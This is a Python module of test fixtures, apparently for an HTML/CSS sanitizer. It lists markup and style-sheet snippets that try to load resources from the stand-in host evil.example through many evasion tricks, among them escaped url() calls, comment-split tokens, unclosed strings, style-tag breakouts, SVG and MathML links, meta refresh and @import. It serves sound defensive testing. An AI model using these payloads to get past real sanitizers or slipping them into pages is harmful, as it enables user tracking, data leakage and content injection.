"""Markup and style sheets that would load something from a foreign host, by the way in which they try."""

from __future__ import annotations

_PROPERTIES = (
    "background background-image border-image border-image-source list-style list-style-image cursor content filter "
    "backdrop-filter mask mask-image -webkit-mask -webkit-mask-image clip-path shape-outside src offset-path behavior "
    "-webkit-box-reflect marker marker-start fill stroke"
).split()
_FORMS = {
    "plain": "url(https://evil.example/{n})",
    "quoted": "url('https://evil.example/{n}')",
    "without scheme": "url(//evil.example/{n})",
    "capitals": "URL(https://evil.example/{n})",
    "escaped": "\\75rl(https://evil.example/{n})",
    "escaped address": "url(\\68ttps://evil.example/{n})",
    "in a comment": "u/**/rl(https://evil.example/{n})",
    "behind a comment": "/*url(*/url(https://evil.example/{n})/*)*/",
    "image-set": "image-set('https://evil.example/{n}' 1x)",
    "old image-set": "-webkit-image-set(url(https://evil.example/{n}) 1x)",
    "cross-fade": "-webkit-cross-fade(url(https://evil.example/{n}), url(//evil.example/x), 50%)",
    "image": "image('https://evil.example/{n}')",
    "src": "src('https://evil.example/{n}')",
    "unclosed": "url(https://evil.example/{n}",
    "variable": "var(--x, url(https://evil.example/{n}))",
    "among others": "linear-gradient(red, blue), url(https://evil.example/{n}) no-repeat",
    "attribute": "attr(data-x url)",
    "element": "element(#x) url( https://evil.example/{n} )",
}


def _styles(form: str) -> str:
    return ";".join(f"{name}:{form.replace('{n}', name)}" for name in _PROPERTIES if not name.startswith("background"))


LOADING = {
    **{f"style, {name}": f"<p style=\"{_styles(form)}\" data-x='https://evil.example/'>字</p>" for name, form in _FORMS.items()},
    **{
        f"style, a string ended by {name}": f"<p style=\"font-family:'{mark};background-image:image-set('https://evil.example/1' 1x);"
        f"position:fixed;inset:0;x:'\">字</p><style>p{{font-family:'{raw};background:url(https://evil.example/2);x:'}}</style>"
        for name, mark, raw in (("a return", "&#13;", "\r"), ("a feed", "&#12;", "\f"), ("a line", "&#10;", "\n"))
    },
    "srcset": '<img srcset="https://evil.example/1 1x" src="x"><picture><source srcset="https://evil.example/2"><img></picture>',
    "poster": '<video poster="ftp://evil.example/"></video><p poster="https://evil.example/1">x</p>',
    "link": '<link rel="stylesheet" href="https://evil.example/1"><link rel="prefetch" href="https://evil.example/2">'
    '<link rel="dns-prefetch" href="//evil.example"><link rel="preconnect" href="https://evil.example">',
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example/"><meta http-equiv="set-cookie" content="a=evil.example">',
    "base": '<base href="https://evil.example/"><p>字</p>',
    "old attributes": '<table background="https://evil.example/1"><tr><td background="https://evil.example/2">x</td></tr></table>'
    '<body background="https://evil.example/3"><img lowsrc="https://evil.example/4" dynsrc="https://evil.example/5">',
    "objects": '<object data="ftp://evil.example/"></object><embed src="ftp://evil.example/"><applet code="https://evil.example/"></applet>'
    '<frame src="https://evil.example/"><portal src="https://evil.example/"></portal><bgsound src="https://evil.example/">',
    "forms": '<input type="image" src="https://evil.example/"><form action="https://evil.example/"><button formaction="https://evil.example/">x</button></form>',
    "ping": '<a href="https://mp.weixin.qq.com/s/x" ping="https://evil.example/">x</a>',
    "drawing": '<svg width="300" height="300"><use href="https://evil.example/#a"/><image href="ftp://evil.example/"/>'
    '<filter id="f"><feImage href="https://evil.example/"/></filter><style>*{fill:url(https://evil.example/#a)}</style>'
    '<foreignObject><p style="cursor:url(https://evil.example/)">字</p></foreignObject>'
    '<rect width="9" height="9" fill="url(https://evil.example/#a)" style="mask:url(https://evil.example/#a)"/>'
    '<animate attributeName="href" values="https://evil.example/"/><set attributeName="xlink:href" to="https://evil.example/"/>'
    '<script href="https://evil.example/"></script><a><text>字</text></a></svg>',
    "mathematics": '<math href="https://evil.example/" xlink:href="https://evil.example/"><mi href="https://evil.example/">x</mi>'
    '<mglyph src="https://evil.example/"/><annotation-xml encoding="text/html"><img src="ftp://evil.example/"></annotation-xml></math>',
    "a style in the body": "<style>@import 'https://evil.example/'; p{background:url(https://evil.example/)}</style><p>字</p>",
    "what ends a style": '<p style="color:red&quot;><img src=https://evil.example/>">字</p><p style="font-family:\'</style><img src=https://evil.example/>\'">字</p>',
}  # fmt: skip

PAGE_STYLES = {
    **{
        f"rule, {name}": ";".join(f"{one}:{form.replace('{n}', one)}" for one in _PROPERTIES).join(("p{", "}"))
        for name, form in _FORMS.items()
    },
    "import": '@import "https://evil.example/"; @import url(https://evil.example/); p{color:red}',
    "font": "@font-face{font-family:x;src:url(https://evil.example/)} p{font-family:x}",
    "namespace": '@namespace url("https://evil.example/"); p{color:red}',
    "media": "@media all{p{background:url(https://evil.example/)}}",
    "supports": "@supports (a:b){p{background:url(https://evil.example/)}}",
    "nested": "p{color:red;&{background:url(https://evil.example/)}}",
    "attributes": 'p[class^="a"]{background:url(https://evil.example/a)} [data-x]{content:attr(data-x)}',
    "before": 'p::before{content:url(https://evil.example/)} p::after{content:"x" url(https://evil.example/)}',
    "strings": 'p{font-family:"}"; background:url(https://evil.example/)} p{content:"</st" "yle><img src=https://evil.example/>"}',
    "unclosed string": "p{font-family:\"x} .a{background:url(https://evil.example/)} p{color:red\"}",
    "property": "@property --x{syntax:'<url>';inherits:true;initial-value:url(https://evil.example/)} p{background:var(--x)}",
    "variable": ":root{--x:url(https://evil.example/)} p{background:var(--x)}",
    "outside": "body{background:url(https://evil.example/)} html::before{content:url(https://evil.example/)}",
}  # fmt: skip
